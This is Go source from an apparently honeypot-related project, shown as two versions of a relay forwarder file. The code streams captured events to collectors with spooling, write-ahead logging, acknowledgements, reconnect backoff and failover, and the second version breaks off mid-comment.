	}
	if o.FrameEvents > DefaultMaxBatchEvents {
		o.FrameEvents = DefaultMaxBatchEvents
	}
	if o.MaxFrame <= 0 {
		o.MaxFrame = DefaultMaxFrame
	}
	if o.MaxRaw <= 0 {
		o.MaxRaw = DefaultMaxRaw
	}
	if o.MaxFrameRetries <= 0 {
		o.MaxFrameRetries = DefaultMaxFrameRetries
	}
	if o.SpoolFrames <= 0 {
		o.SpoolFrames = DefaultSpoolFrames
	}
	if o.SpoolBytes <= 0 {
		o.SpoolBytes = DefaultSpoolBytes
	}
	if o.DialTimeout <= 0 {
		o.DialTimeout = DefaultDialTimeout
	}
	if o.WriteTimeout <= 0 {
		o.WriteTimeout = DefaultWriteTimeout
	}
	if o.FlushTimeout <= 0 {
		o.FlushTimeout = DefaultFlushTimeout
	}
	if o.MinBackoff <= 0 {
		o.MinBackoff = DefaultMinBackoff
	}
	if o.MaxBackoff < o.MinBackoff {
		o.MaxBackoff = DefaultMaxBackoff
	}
	if o.MaxBackoff < o.MinBackoff {
		o.MaxBackoff = o.MinBackoff
	}
	if o.MaxShedSources <= 0 {
		o.MaxShedSources = DefaultMaxShedSources
	}
	if o.TopShedders <= 0 {
		o.TopShedders = DefaultTopShedders
	}
	return o
}

// spoolFrame is one encoded, unacked batch. attempts counts the
// connections the frame has been written on as the spool head without
// being acked — a frame the collector rejects at decode always dies at
// the head, whereas frames merely queued behind it must not accrue
// blame. Past Options.MaxFrameRetries the head frame is presumed
// collector-rejected and dropped.
type spoolFrame struct {
	seq      uint64
	events   int
	body     []byte
	attempts int
	sentAt   time.Time // last successful write; zero until first send
}

// ForwardSink streams events to a relay collector. It implements
// core.Sink, core.BatchSink and core.Flusher, so it registers on the
// event bus like any local sink; batches arrive on bus worker
// goroutines, are encoded into frames and spooled, and a background pump
// goroutine owns the TCP connection: dial, HELLO, write frames with a
// deadline, read cumulative ACKs, reconnect with jittered exponential
// backoff, retransmitting everything unacked after each reconnect.
//
// When the spool hits its frame/byte bound (collector down, or slower
// than the farm), new events are shed with per-source accounting — the
// same degrade-don't-stall contract as the bus's Adaptive policy — so
// Stats always satisfies: events enqueued = acked + in flight (spool +
// pending) and events offered = enqueued + shed.
type ForwardSink struct {
	opts ForwardOptions

	mu   sync.Mutex
	cond sync.Cond // new data, acks, disconnects, stop

	pending []core.Event  // not yet framed
	spool   []*spoolFrame // framed, FIFO; [0:sentIdx) written on current conn
	sentIdx int
	spoolEv int
	spoolB  int64
	nextSeq uint64
	epoch   uint64 // per-process session nonce, sent in HELLO

	conn      net.Conn
	connected bool
	stopped   bool
	stopCh    chan struct{}
	wg        sync.WaitGroup

	firstErr error

	// Counters (guarded by mu).
	enqueued    uint64
	frames      uint64
	framesSent  uint64
	framesAcked uint64
	eventsAcked uint64
	wireBytes   uint64
	rawBytes    uint64
	dials       uint64
	dialErrors  uint64
	reconnects  uint64
	writeErrors uint64
	shed        uint64
	shedUnattr  uint64
	shedSrc     map[netip.Addr]uint64
	droppedFr   uint64            // frames dropped at the retry cap
	ackRTT      core.DurationHist // write-to-ack round trips
}

// NewForwardSink validates opts and starts the connection pump. The
// sink dials lazily: no connection is attempted until there is an event
// to ship.
func NewForwardSink(opts ForwardOptions) (*ForwardSink, error) {
	if opts.Addr == "" {
		return nil, fmt.Errorf("relay: forward: empty collector address")
	}
	if opts.Token == "" {
		return nil, fmt.Errorf("relay: forward: empty token")
	}
	if len(opts.Token) > MaxName {
		return nil, fmt.Errorf("relay: forward: token is %d bytes, limit %d", len(opts.Token), MaxName)
	}
	if len(opts.Farm) > MaxName {
		return nil, fmt.Errorf("relay: forward: farm name is %d bytes, limit %d", len(opts.Farm), MaxName)
	}
	f := &ForwardSink{
		opts:    opts.withDefaults(),
		stopCh:  make(chan struct{}),
		shedSrc: make(map[netip.Addr]uint64),
		epoch:   newEpoch(),
	}
	f.cond.L = &f.mu
	if err := f.loadSpoolWAL(); err != nil {
		return nil, err
	}
	f.wg.Add(1)
	go f.pump()
	return f, nil
}

// loadSpoolWAL adopts the durable spool: the forwarder's sequence space
// continues the log's, and every journaled-but-unacked frame (sequence
// past the persisted ack mark) is re-encoded into the spool so the next
// connection retransmits it. Runs before the pump starts, so no lock is
// needed.
func (f *ForwardSink) loadSpoolWAL() error {
	w := f.opts.SpoolWAL
	if w == nil {
		return nil
	}
	f.nextSeq = w.LastSeq()
	err := w.Replay(w.Mark()+1, func(seq uint64, _ []byte, events []core.Event) error {
		body, rawLen, err := EncodeBatch(seq, events, f.opts.CompressionLevel)
		if err != nil {
			return fmt.Errorf("relay: re-encode spooled frame seq %d: %w", seq, err)
		}
		fr := &spoolFrame{seq: seq, events: len(events), body: body}
		f.spool = append(f.spool, fr)
		f.spoolEv += fr.events
		f.spoolB += int64(len(body)) + 4
		f.enqueued += uint64(fr.events)
		f.frames++
		f.wireBytes += uint64(len(body)) + 4
		f.rawBytes += uint64(rawLen)
		return nil
	})
	if err != nil {
		return fmt.Errorf("relay: reload spool: %w", err)
	}
	if n := len(f.spool); n > 0 {
		f.logf("relay: reloaded %d unacked frames (%d events, seq %d..%d) from spool WAL",
			n, f.spoolEv, f.spool[0].seq, f.spool[n-1].seq)
	}
	return nil
}

// newEpoch draws the per-process session nonce the collector uses to
// tell a reconnect from a restart. Never zero, so it is distinguishable
// from a collector farmState that has seen no HELLO at all.
func newEpoch() uint64 {
	var b [8]byte
	if _, err := crand.Read(b[:]); err != nil {
		// crypto/rand failing is effectively fatal elsewhere; fall back
		// to the math/rand source rather than refusing to forward.
		return uint64(rand.Int63()) | 1
	}
	e := binary.LittleEndian.Uint64(b[:])
	if e == 0 {
		e = 1
	}
	return e
}

// durable reports whether the spool is WAL-backed — advertised in the
// HELLO so the collector dedups on sequence across session epochs.
func (f *ForwardSink) durable() bool { return f.opts.SpoolWAL != nil }

// Record implements core.Sink.
func (f *ForwardSink) Record(e core.Event) {
	_ = f.RecordBatch([]core.Event{e})
}

// RecordBatch implements core.BatchSink. It never returns an error:
// overload is expressed as accounted shedding (or, with Options.Block,
// as backpressure), not as a failed delivery the bus would re-count.
func (f *ForwardSink) RecordBatch(events []core.Event) error {
	f.mu.Lock()
	for _, e := range events {
		if f.opts.Block {
			for f.overLimitLocked() && !f.stopped {
				f.cond.Wait()
			}
		}
		if f.stopped || f.overLimitLocked() {
			f.shedLocked(e)
			continue
		}
		f.pending = append(f.pending, e)
		f.enqueued++
		if len(f.pending) >= f.opts.FrameEvents {
			f.cutFrameLocked()
		}
	}
	f.cond.Broadcast()
	f.mu.Unlock()
	return nil
}

func (f *ForwardSink) overLimitLocked() bool {
	return len(f.spool) >= f.opts.SpoolFrames || f.spoolB >= f.opts.SpoolBytes
}

// shedLocked counts one shed event against its source; once the
// attribution table is full, against the unattributed overflow bucket,
// so shed totals stay exact.
func (f *ForwardSink) shedLocked(e core.Event) {
	f.shed++
	a := e.Src.Addr()
	if _, ok := f.shedSrc[a]; ok || len(f.shedSrc) < f.opts.MaxShedSources {
		f.shedSrc[a]++
	} else {
		f.shedUnattr++
	}
}

// cutFrameLocked encodes pending events into spool frames, validating
// every cut frame against the wire limits the collector will enforce at
// decode (Options.MaxFrame/MaxRaw). A batch that encodes past either
// bound is split in half until it fits — spooling it would poison the
// spool head: the collector rejects the frame and drops the connection,
// and the retransmit loop would replay it forever. A single event that
// cannot fit alone is shed with attribution instead.
func (f *ForwardSink) cutFrameLocked() {
	for len(f.pending) > 0 {
		n := len(f.pending)
		var body []byte
		var rawLen int
		for body == nil {
			b, rl, err := EncodeBatch(f.nextSeq+1, f.pending[:n], f.opts.CompressionLevel)
			switch {
			case err != nil:
				// Encoding into memory cannot fail outside of a
				// programming error; record it and shed the batch
				// rather than wedging.
				f.noteErrLocked(err)
				f.shedPendingLocked(n)
			case len(b)+4 <= f.opts.MaxFrame && rl <= f.opts.MaxRaw:
				body, rawLen = b, rl
			case n > 1:
				n /= 2
				continue
			default:
				f.noteErrLocked(fmt.Errorf("relay: event exceeds frame limits (%d raw bytes, limit %d)", rl, f.opts.MaxRaw))
				f.shedPendingLocked(1)
			}
			break
		}
		if body == nil {
			continue
		}
		if w := f.opts.SpoolWAL; w != nil {
			// Journal before spooling: a frame the WAL did not accept must
			// not enter the sequence space (its seq would be reused after a
			// restart and the collector would dedup-drop a different
			// batch). A failing disk degrades to accounted shedding, the
			// same contract as a full spool.
			seq, err := w.Append(f.pending[:n], nil)
			if err != nil {
				f.noteErrLocked(err)
				f.logf("relay: spool WAL append: %v (shedding %d events)", err, n)
				f.shedPendingLocked(n)
				continue
			}
			if seq != f.nextSeq+1 {
				// Foreign writer on the log (ownership contract broken).
				// Resync to the WAL's sequence space — it is authoritative —
				// and re-encode under the right sequence number.
				f.noteErrLocked(fmt.Errorf("relay: spool WAL sequence skew: got %d, want %d", seq, f.nextSeq+1))
				f.nextSeq = seq - 1
				if body, rawLen, err = EncodeBatch(seq, f.pending[:n], f.opts.CompressionLevel); err != nil {
					f.noteErrLocked(err)
					f.shedPendingLocked(n)
					continue
				}
			}
		}
		f.nextSeq++
		fr := &spoolFrame{seq: f.nextSeq, events: n, body: body}
		f.spool = append(f.spool, fr)
		f.spoolEv += fr.events
		f.spoolB += int64(len(body)) + 4
		f.frames++
		f.wireBytes += uint64(len(body)) + 4
		f.rawBytes += uint64(rawLen)
		f.consumePendingLocked(n)
	}
}

// shedPendingLocked sheds the first n pending events with attribution,
// unwinding their enqueued count.
func (f *ForwardSink) shedPendingLocked(n int) {
	for _, e := range f.pending[:n] {
		f.enqueued--
		f.shedLocked(e)
	}
	f.consumePendingLocked(n)
}

// consumePendingLocked removes the first n pending events.
func (f *ForwardSink) consumePendingLocked(n int) {
	f.pending = f.pending[:copy(f.pending, f.pending[n:])]
}

func (f *ForwardSink) noteErrLocked(err error) {
	if f.firstErr == nil {
		f.firstErr = err
	}
}

func (f *ForwardSink) logf(format string, args ...any) {
	if f.opts.Logf != nil {
		f.opts.Logf(format, args...)
	}
}

// pump owns the connection lifecycle: wait for work, dial (with
// backoff), serve the connection until it breaks, repeat.
func (f *ForwardSink) pump() {
	defer f.wg.Done()
	backoff := f.opts.MinBackoff
	for {
		f.mu.Lock()
		for !f.stopped && len(f.spool) == 0 && len(f.pending) == 0 {
			f.cond.Wait()
		}
		if f.stopped {
			f.mu.Unlock()
			return
		}
		f.mu.Unlock()

		conn, err := f.dial()
		if err != nil {
			// Transient by design: the spool holds the events and the
			// next attempt retransmits, so a failed dial is a counter
			// and a log line, not a sink error.
			f.mu.Lock()
			f.dialErrors++
			f.mu.Unlock()
			f.logf("relay: dial %s: %v (backing off)", f.opts.Addr, err)
			if !f.sleepBackoff(&backoff) {
				return
			}
			continue
		}
		backoff = f.opts.MinBackoff
		f.serveConn(conn)
	}
}

// dial connects and completes the HELLO exchange.
func (f *ForwardSink) dial() (net.Conn, error) {
	conn, err := net.DialTimeout("tcp", f.opts.Addr, f.opts.DialTimeout)
	if err != nil {
		return nil, fmt.Errorf("relay: dial %s: %w", f.opts.Addr, err)
	}
	_ = conn.SetWriteDeadline(time.Now().Add(f.opts.WriteTimeout))
	if err := wire.WriteFrame(conn, encodeHello(f.opts.Token, f.opts.Farm, f.epoch, f.durable())); err != nil {
		conn.Close()
		return nil, fmt.Errorf("relay: hello to %s: %w", f.opts.Addr, err)
	}
	_ = conn.SetWriteDeadline(time.Time{})
	f.mu.Lock()
	f.dials++
	if f.dials > 1 {
		f.reconnects++
	}
	f.mu.Unlock()
	return conn, nil
}

// sleepBackoff sleeps the jittered backoff (half fixed, half uniform
// random) and doubles it up to MaxBackoff. It returns false when the
// sink was closed during the sleep.
func (f *ForwardSink) sleepBackoff(d *time.Duration) bool {
	wait := *d/2 + time.Duration(rand.Int63n(int64(*d/2)+1))
	*d *= 2
	if *d > f.opts.MaxBackoff {
		*d = f.opts.MaxBackoff
	}
	select {
	case <-time.After(wait):
		return true
	case <-f.stopCh:
		return false
	}
}

// serveConn runs one connection: an ack-reader goroutine prunes the
// spool while the write loop streams frames. Either side failing closes
// the connection and returns control to the pump, which retransmits
// every still-spooled frame on the next connection.
func (f *ForwardSink) serveConn(conn net.Conn) {
	f.mu.Lock()
	f.conn = conn
	f.connected = true
	f.sentIdx = 0 // retransmit everything unacked
	f.mu.Unlock()

	ackDone := make(chan struct{})
	go f.ackLoop(conn, ackDone)
	f.writeLoop(conn)
	conn.Close()
	<-ackDone

	f.mu.Lock()
	f.conn = nil
	f.connected = false
	f.sentIdx = 0
	f.cond.Broadcast()
	f.mu.Unlock()
}

// writeLoop streams spooled frames in sequence order, cutting pending
// events into a fresh frame whenever it catches up — so under light
// load every batch ships as soon as the previous write returns, without
// a flush timer.
func (f *ForwardSink) writeLoop(conn net.Conn) {
	for {
		f.mu.Lock()
		for !f.stopped && f.connected && f.sentIdx >= len(f.spool) && len(f.pending) == 0 {
			f.cond.Wait()
		}
		if f.stopped || !f.connected {
			f.mu.Unlock()
			return
		}
		if f.sentIdx >= len(f.spool) {
			f.cutFrameLocked()
			if f.sentIdx >= len(f.spool) { // encode failure shed the batch
				f.mu.Unlock()
				continue
			}
		}
		fr := f.spool[f.sentIdx]
		if fr.attempts >= f.opts.MaxFrameRetries {
			// Written at the spool head on MaxFrameRetries connections
			// without ever being acked: the collector is rejecting this
			// frame at decode (limits skew or corruption in transit that
			// survives TCP). Drop it so the spool drains instead of
			// replaying the same frame forever; the loss is counted,
			// never silent.
			f.spool = append(f.spool[:f.sentIdx], f.spool[f.sentIdx+1:]...)
			f.spoolEv -= fr.events
			f.spoolB -= int64(len(fr.body)) + 4
			f.enqueued -= uint64(fr.events)
			f.shed += uint64(fr.events)
			f.shedUnattr += uint64(fr.events)
			f.droppedFr++
			f.noteErrLocked(fmt.Errorf("relay: frame seq %d (%d events) dropped after %d unacked transmissions", fr.seq, fr.events, fr.attempts))
			f.cond.Broadcast()
			f.mu.Unlock()
			f.logf("relay: dropping frame seq=%d (%d events) after %d unacked transmissions", fr.seq, fr.events, fr.attempts)
			continue
		}
		if f.sentIdx == 0 {
			fr.attempts++
		}
		f.sentIdx++
		f.mu.Unlock()

		_ = conn.SetWriteDeadline(time.Now().Add(f.opts.WriteTimeout))
		if err := wire.WriteFrame(conn, fr.body); err != nil {
			// Also transient: the frame stays spooled and ships again
			// after the reconnect.
			f.mu.Lock()
			f.writeErrors++
			f.mu.Unlock()
			f.logf("relay: write to %s: %v (will reconnect)", f.opts.Addr, err)
			return
		}
		f.mu.Lock()
		f.framesSent++
		fr.sentAt = time.Now()
		f.mu.Unlock()
	}
}

// ackLoop reads cumulative ACKs and prunes the spool. A read error
// closes the connection so the write loop notices.
func (f *ForwardSink) ackLoop(conn net.Conn, done chan<- struct{}) {
	defer close(done)
	for {
		body, err := wire.ReadFrame(conn, DefaultMaxFrame)
		if err != nil {
			conn.Close()
			f.mu.Lock()
			f.connected = false
			f.cond.Broadcast()
			f.mu.Unlock()
			return
		}
		seq, err := decodeAck(body)
		if err != nil {
			f.mu.Lock()
			f.noteErrLocked(err)
			f.mu.Unlock()
			conn.Close()
			continue // next read fails and exits the loop
		}
		f.mu.Lock()
		acked := false
		for len(f.spool) > 0 && f.spool[0].seq <= seq {
			fr := f.spool[0]
			f.spool = f.spool[1:]
			if f.sentIdx > 0 {
				f.sentIdx--
			}
			f.spoolEv -= fr.events
			f.spoolB -= int64(len(fr.body)) + 4
			f.framesAcked++
			f.eventsAcked += uint64(fr.events)
			if !fr.sentAt.IsZero() {
				f.ackRTT.Observe(time.Since(fr.sentAt))
			}
			acked = true
		}
		if acked && f.opts.SpoolWAL != nil {
			// Persist the ack as a mark and reclaim fully-acked segments;
			// after a restart, Replay(Mark()+1) reloads only what is still
			// unacked. A mark that fails to persist is harmless to
			// correctness — the frames replay and the collector's durable
			// dedup drops them — so the error is only noted.
			if _, err := f.opts.SpoolWAL.Compact(seq); err != nil {
				f.noteErrLocked(err)
			}
		}
		f.cond.Broadcast()
		f.mu.Unlock()
	}
}

// Flush implements core.Flusher: it waits — up to Options.FlushTimeout —
// for every enqueued event to be acked by the collector. With the
// collector unreachable the timeout expires and the remaining events
// stay spooled (visible in Stats), which is exactly what the shutdown
// accounting wants: nothing silently discarded.
func (f *ForwardSink) Flush() {
	deadline := time.Now().Add(f.opts.FlushTimeout)
	for {
		f.mu.Lock()
		drained := len(f.spool) == 0 && len(f.pending) == 0
		stopped := f.stopped
		f.cond.Broadcast() // nudge the pump in case it waits on work
		f.mu.Unlock()
		if drained || stopped || !time.Now().Before(deadline) {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// Close stops the pump and closes the connection. Unacked frames remain
// in the spool for Stats accounting; call Flush first to drain them.
// Close returns the first non-recoverable error observed (nil if none);
// transient dial and write failures are healed by retransmission and
// surface only as Stats counters.
func (f *ForwardSink) Close() error {
	f.mu.Lock()
	if f.stopped {
		err := f.firstErr
		f.mu.Unlock()
		return err
	}
	if f.durable() {
		// Journal the unframed tail: pending events below the frame
		// cutoff would otherwise exist only in memory, and the restart
		// that replays the spool WAL would silently lose them.
		f.cutFrameLocked()
	}
	f.stopped = true
	conn := f.conn
	close(f.stopCh)
	f.cond.Broadcast()
	f.mu.Unlock()
	if conn != nil {
		conn.Close()
	}
	f.wg.Wait()
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.firstErr
}

// Err returns the first non-recoverable error observed so far.
func (f *ForwardSink) Err() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.firstErr
}

// SourceShed is one entry of the heaviest-shedders list, mirroring the
// bus's per-source shed surface.
type SourceShed struct {
	Addr netip.Addr
	Shed uint64
}

// Stats is a point-in-time snapshot of forwarder counters. The books
// always balance: Enqueued = EventsAcked + SpoolEvents + Pending, and
// offered events split into Enqueued + Shed.
type Stats struct {
	Farm      string
	Connected bool

	Enqueued    uint64 // events accepted into pending/spool
	Frames      uint64 // frames encoded
	FramesSent  uint64 // frame writes completed (retransmits included)
	FramesAcked uint64
	EventsAcked uint64 // events the collector has acknowledged
	WireBytes   uint64 // compressed frame bytes produced (incl. prefix)
	RawBytes    uint64 // uncompressed payload bytes

	Dials      uint64
	DialErrors uint64
	Reconnects uint64 // successful dials after the first

	SpoolFrames int   // frames currently spooled (unacked)
	SpoolEvents int   // events in those frames
	SpoolBytes  int64 // wire bytes those frames occupy
	Pending     int   // events not yet framed

	Shed uint64 // events dropped: spool full, oversized, or retry cap
	// Shedders are the heaviest shed sources, descending; at most
	// Options.TopShedders entries.
	Shedders []SourceShed
	// ShedUnattributed counts sheds beyond the bounded attribution table
	// (including events inside frames dropped at the retry cap, whose
	// source addresses are no longer available).
	ShedUnattributed uint64
	// DroppedFrames counts spooled frames dropped at
	// Options.MaxFrameRetries (their events are included in Shed).
	DroppedFrames uint64
	// AckRTT is the distribution of frame write-to-ack round trips —
	// the live health signal for the farm→collector link (a rising RTT
	// means the collector or the path is saturating before the spool
	// ever fills).
	AckRTT core.DurationHist
}

// CompressionRatio is uncompressed/compressed payload bytes (0 when
// nothing has been framed).
func (s Stats) CompressionRatio() float64 {
	if s.WireBytes == 0 {
		return 0
	}
	return float64(s.RawBytes) / float64(s.WireBytes)
}

// String renders the snapshot as one operational log line.
func (s Stats) String() string {
	var sb strings.Builder
	state := "down"
	if s.Connected {
		state = "up"
	}
	fmt.Fprintf(&sb, "relay[%s→%s]: enq=%d acked=%d spool=%d/%dev pend=%d frames=%d ratio=%.2f reconn=%d",
		s.Farm, state, s.Enqueued, s.EventsAcked, s.SpoolFrames, s.SpoolEvents, s.Pending,
		s.Frames, s.CompressionRatio(), s.Reconnects)
	if s.DroppedFrames > 0 {
		fmt.Fprintf(&sb, " dropped=%dfr", s.DroppedFrames)
	}
	if s.Shed > 0 {
		sb.WriteString(" shed[")
		for i, sd := range s.Shedders {
			if i > 0 {
				sb.WriteByte(' ')
			}
			fmt.Fprintf(&sb, "%s=%d", sd.Addr, sd.Shed)
		}
		if s.ShedUnattributed > 0 {
			if len(s.Shedders) > 0 {
				sb.WriteByte(' ')
			}
			fmt.Fprintf(&sb, "evicted=%d", s.ShedUnattributed)
		}
		sb.WriteByte(']')
	}
	return sb.String()
}

// Stats snapshots the counters. Safe to call concurrently with
// recording and delivery.
func (f *ForwardSink) Stats() Stats {
	f.mu.Lock()
	defer f.mu.Unlock()
	st := Stats{
		Farm:             f.opts.Farm,
		Connected:        f.connected,
		Enqueued:         f.enqueued,
		Frames:           f.frames,
		FramesSent:       f.framesSent,
		FramesAcked:      f.framesAcked,
		EventsAcked:      f.eventsAcked,
		WireBytes:        f.wireBytes,
		RawBytes:         f.rawBytes,
		Dials:            f.dials,
		DialErrors:       f.dialErrors,
		Reconnects:       f.reconnects,
		SpoolFrames:      len(f.spool),
		SpoolEvents:      f.spoolEv,
		SpoolBytes:       f.spoolB,
		Pending:          len(f.pending),
		Shed:             f.shed,
		ShedUnattributed: f.shedUnattr,
		DroppedFrames:    f.droppedFr,
		AckRTT:           f.ackRTT,
	}
	for a, n := range f.shedSrc {
		if n > 0 {
			st.Shedders = append(st.Shedders, SourceShed{Addr: a, Shed: n})
		}
	}
	sort.Slice(st.Shedders, func(i, j int) bool {
		if st.Shedders[i].Shed != st.Shedders[j].Shed {
			return st.Shedders[i].Shed > st.Shedders[j].Shed
		}
		return st.Shedders[i].Addr.Less(st.Shedders[j].Addr)
	})
	if len(st.Shedders) > f.opts.TopShedders {
		st.Shedders = st.Shedders[:f.opts.TopShedders]
	}
	return st
}
