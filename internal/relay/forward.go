package relay

import (
	crand "crypto/rand"
	"encoding/binary"
	"fmt"
	"math/rand"
	"net"
	"net/netip"
	"sort"
	"strings"
	"sync"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/wal"
	"decoydb/internal/wire"
)

// ForwardOptions configure a ForwardSink. Addrs and Token are required.
type ForwardOptions struct {
	// Addrs are the collector endpoints. The sink ranks them by
	// rendezvous hash of the farm name (RankEndpoints) and forwards to
	// the first-ranked collector, failing over down the list when the
	// connection dies and failing back when a higher-ranked collector
	// returns. A single-element slice behaves exactly like the old
	// single-collector forwarder.
	Addrs []string
	// Token is the shared secret presented in the HELLO frame.
	Token string
	// Farm names this forwarder in the collector's dedup and stats
	// tables, and keys the rendezvous ranking over Addrs. Defaults to
	// "farm". Two live farms must use distinct names or their sequence
	// spaces collide.
	Farm string

	// Block, when set, makes RecordBatch wait for spool space instead of
	// shedding — the lossless choice for forwarding a finite capture
	// (cmd/dbsim). A live farm leaves it unset: a collector outage must
	// cost bounded memory, not stalled honeypot sessions.
	Block bool

	// FrameEvents is the target events per frame; pending events are cut
	// into a frame when they reach it (or earlier, whenever the writer is
	// idle). 0 means DefaultFrameEvents; values above DefaultMaxBatchEvents
	// are clamped — a default-configured collector rejects larger frames.
	FrameEvents int
	// MaxFrame and MaxRaw are the wire limits frames are validated
	// against at encode time; they must be no larger than the
	// collector's MaxFrame / Limits.MaxRaw or the collector will reject
	// the frames. A batch that encodes past either bound is split in
	// half until it fits; a single event that cannot fit alone is shed
	// with attribution. Zero values mean the package defaults.
	MaxFrame int
	MaxRaw   int
	// MaxFrameRetries drops a spooled frame after it has been written on
	// this many connections without ever being acked — the signature of
	// a frame the collector rejects at decode (limits skew between the
	// two ends). The drop is counted in Stats (DroppedFrames, and the
	// events as Shed) and surfaces via Err. 0 means
	// DefaultMaxFrameRetries.
	MaxFrameRetries int
	// SpoolFrames caps encoded frames buffered while unacked. 0 means
	// DefaultSpoolFrames.
	SpoolFrames int
	// SpoolBytes caps the wire bytes those frames occupy. 0 means
	// DefaultSpoolBytes.
	SpoolBytes int64

	// SpoolWAL, when non-nil, backs the retransmission spool with a
	// durable log (in practice a *wal.Log, which satisfies SpoolLog):
	// every cut frame is journaled before it is spooled, frame ownership
	// is journaled when a frame is first written to an endpoint,
	// collector acks are persisted as marks (and compact the log), and a
	// restarted forwarder reloads every unacked frame — with its pinned
	// endpoint address — from disk and resumes retransmission under a
	// fresh epoch, so a farm crash costs nothing that was already framed
	// and never replays a frame to a collector other than its owner.
	// Frame sequence numbers are the WAL's sequence numbers, which
	// survive restarts; the HELLO advertises this (durable flag) so the
	// collector dedups on sequence across epochs. The log must be
	// exclusively owned by this sink while it is open (its sequence
	// space is the frame sequence space); the caller retains ownership
	// for Close. Assign only a non-nil concrete value: a nil *wal.Log
	// stored in the interface reads as a present (and broken) log.
	SpoolWAL SpoolLog

	// OrphanRelease, when positive, is how long a spooled frame may stay
	// pinned to an endpoint that is absent from the current endpoint set
	// before the pin is released and the frame becomes eligible for any
	// collector. Zero (the default) never releases: an orphaned frame
	// waits for its owner to reappear (SetEndpoints, or a restart with
	// the owner back in Addrs). Releasing trades the exactly-once
	// guarantee for drain progress — the departed collector may already
	// hold the events — so it is opt-in, for tiers where removed
	// collectors are gone for good and their stores are discarded.
	OrphanRelease time.Duration

	// CompressionLevel is the compress/flate level for batch payloads.
	// 0 means flate.BestSpeed.
	CompressionLevel int

	// DialTimeout, WriteTimeout and FlushTimeout bound connection
	// attempts, single frame writes, and Flush respectively. Zero values
	// take the package defaults.
	DialTimeout  time.Duration
	WriteTimeout time.Duration
	FlushTimeout time.Duration
	// MinBackoff/MaxBackoff bound the jittered exponential reconnect
	// backoff, kept per endpoint. A connection's endpoint resets to
	// MinBackoff only after the first acked frame on that connection —
	// a collector that accepts TCP but never acks (auth skew, a
	// half-dead process) keeps backing off instead of being hammered at
	// the floor interval. Zero values take the package defaults.
	MinBackoff time.Duration
	MaxBackoff time.Duration
	// FailbackInterval is how often a connected sink probes for a
	// better endpoint: the owner of the oldest pinned frame first (so
	// spooled frames drain when their collector returns), else the
	// highest-ranked collector. A successful probe hands the new
	// connection over without dropping events; a failed probe costs one
	// dial and leaves the current connection alone. 0 means
	// DefaultFailbackInterval; it only matters with multiple Addrs.
	FailbackInterval time.Duration

	// MaxShedSources bounds the per-source shed-accounting table; sheds
	// beyond it count as unattributed (totals stay exact). 0 means
	// DefaultMaxShedSources.
	MaxShedSources int
	// TopShedders is the length of Stats.Shedders. 0 means
	// DefaultTopShedders.
	TopShedders int

	// Logf, when non-nil, receives operational diagnostics (reconnects,
	// write failures, failovers).
	Logf func(format string, args ...any)
}

// Defaults for ForwardOptions.
const (
	DefaultFrameEvents      = 512
	DefaultSpoolFrames      = 1024
	DefaultSpoolBytes       = 64 << 20
	DefaultDialTimeout      = 5 * time.Second
	DefaultWriteTimeout     = 10 * time.Second
	DefaultFlushTimeout     = 5 * time.Second
	DefaultMinBackoff       = 100 * time.Millisecond
	DefaultMaxBackoff       = 5 * time.Second
	DefaultFailbackInterval = 15 * time.Second
	DefaultMaxShedSources   = 4096
	DefaultTopShedders      = 8
	DefaultMaxFrameRetries  = 8
)

func (o ForwardOptions) withDefaults() ForwardOptions {
	if o.Farm == "" {
		o.Farm = "farm"
	}
	if o.FrameEvents <= 0 {
		o.FrameEvents = DefaultFrameEvents
	}
	if o.FrameEvents > DefaultMaxBatchEvents {
		o.FrameEvents = DefaultMaxBatchEvents
	}
	if o.MaxFrame <= 0 {
		o.MaxFrame = DefaultMaxFrame
	}
	if o.MaxRaw <= 0 {
		o.MaxRaw = DefaultMaxRaw
	}
	if o.MaxFrameRetries <= 0 {
		o.MaxFrameRetries = DefaultMaxFrameRetries
	}
	if o.SpoolFrames <= 0 {
		o.SpoolFrames = DefaultSpoolFrames
	}
	if o.SpoolBytes <= 0 {
		o.SpoolBytes = DefaultSpoolBytes
	}
	if o.DialTimeout <= 0 {
		o.DialTimeout = DefaultDialTimeout
	}
	if o.WriteTimeout <= 0 {
		o.WriteTimeout = DefaultWriteTimeout
	}
	if o.FlushTimeout <= 0 {
		o.FlushTimeout = DefaultFlushTimeout
	}
	if o.MinBackoff <= 0 {
		o.MinBackoff = DefaultMinBackoff
	}
	if o.MaxBackoff < o.MinBackoff {
		o.MaxBackoff = DefaultMaxBackoff
	}
	if o.MaxBackoff < o.MinBackoff {
		o.MaxBackoff = o.MinBackoff
	}
	if o.FailbackInterval <= 0 {
		o.FailbackInterval = DefaultFailbackInterval
	}
	if o.MaxShedSources <= 0 {
		o.MaxShedSources = DefaultMaxShedSources
	}
	if o.TopShedders <= 0 {
		o.TopShedders = DefaultTopShedders
	}
	return o
}

// SpoolLog is the durable-spool contract the forwarder journals
// through. *wal.Log satisfies it; the indirection exists so tests can
// inject journal faults (a Compact that fails once, an Append that
// skews) without a real disk misbehaving on cue.
type SpoolLog interface {
	// Append journals a batch and returns its sequence number.
	Append(events []core.Event, tag []byte) (uint64, error)
	// AppendOwner journals which endpoint the batch with sequence seq is
	// pinned to; an empty addr releases the pin.
	AppendOwner(seq uint64, addr string) error
	// Owners returns the surviving pins (seq → endpoint addr) above the
	// consumer mark.
	Owners() map[uint64]string
	// Replay streams every batch with sequence >= from, in log order.
	Replay(from uint64, fn func(seq uint64, tag []byte, events []core.Event) error) error
	// Compact persists seq as the consumer mark and reclaims storage.
	Compact(seq uint64) (removed int, err error)
	// Mark returns the highest persisted consumer mark.
	Mark() uint64
	// LastSeq returns the highest journaled batch sequence.
	LastSeq() uint64
}

var _ SpoolLog = (*wal.Log)(nil)

// spoolFrame is one encoded, unacked batch. attempts counts the
// connections the frame has been written on as the first frame of the
// connection without being acked — a frame the collector rejects at
// decode always leads the retransmission, whereas frames merely queued
// behind it must not accrue blame. Past Options.MaxFrameRetries such a
// frame is presumed collector-rejected and dropped.
//
// owner pins the frame to the address of the endpoint it was first
// written to (empty until then). Retransmits only ever go to the owner:
// after a failover the new collector never sees frames the old one may
// have ingested without the ack reaching us, so an event is ingested by
// exactly one collector and the tier-wide merge stays exactly-once.
// Pinned frames drain when their collector returns (the failback probe
// seeks the oldest pinned frame's owner); the owner's own
// journal-restored dedup absorbs the re-send of anything it had already
